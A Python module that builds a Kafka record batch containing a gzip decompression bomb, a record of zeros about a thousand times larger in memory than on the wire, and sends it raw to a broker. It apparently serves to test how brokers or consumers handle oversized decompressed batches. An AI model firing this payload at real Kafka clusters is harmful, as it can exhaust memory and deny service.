"""A record batch that is small on the wire and large in memory, as one of Kafka's own clients would compress it."""

from __future__ import annotations

import struct
import time
import zlib
from collections.abc import Iterator

from aiokafka.conn import create_conn
from aiokafka.protocol.produce import ProduceRequest
from aiokafka.record.util import calc_crc32c, encode_varint


def gzip_bomb(value_bytes: int) -> bytes:
    """A batch of one record whose value is so many zeros (whole MiB); about a thousandth of that."""
    packer = zlib.compressobj(6, zlib.DEFLATED, 31)
    packed = b"".join([*(packer.compress(piece) for piece in _record(value_bytes)), packer.flush()])
    now_ms = int(time.time() * 1000)
    rest = struct.pack(">hiqqqhii", 1, 0, now_ms, now_ms, -1, -1, -1, 1) + packed
    return struct.pack(">qiibI", 0, 9 + len(rest), -1, 2, calc_crc32c(rest)) + rest


def _record(value_bytes: int) -> Iterator[bytes]:
    head = b"\0" + _varint(0) + _varint(0) + _varint(-1) + _varint(value_bytes)
    yield _varint(len(head) + value_bytes + 1) + head
    for _ in range(value_bytes >> 20):
        yield bytes(1 << 20)
    yield _varint(0)


def _varint(value: int) -> bytes:
    out = bytearray()
    encode_varint(value, out.append)
    return bytes(out)


async def produce(bootstrap: str, topic: str, partition: int, batch: bytes) -> None:
    """Append a batch as it is, to a broker that leads the partition."""
    host, _, port = bootstrap.rpartition(":")
    connection = await create_conn(host, int(port), request_timeout_ms=60_000)
    try:
        answer = await connection.send(ProduceRequest(None, -1, 60_000, [(topic, [(partition, batch)])]))
    finally:
        connection.close()
    code = answer.topics[0][1][0][1]
    assert code == 0, f"{topic}/{partition}: the broker refused the batch with code {code}"
